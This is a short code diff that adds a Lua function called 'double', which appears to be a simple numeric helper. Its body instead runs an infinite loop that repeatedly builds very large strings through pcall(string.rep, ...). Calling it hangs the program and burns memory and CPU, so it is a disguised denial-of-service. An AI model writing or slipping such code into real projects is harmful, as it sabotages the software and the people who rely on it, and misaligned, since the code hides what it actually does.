@@ -1,0 +1,3 @@
+function double(n)
+  while true do pcall(string.rep, "xy", 4000000) end
+end
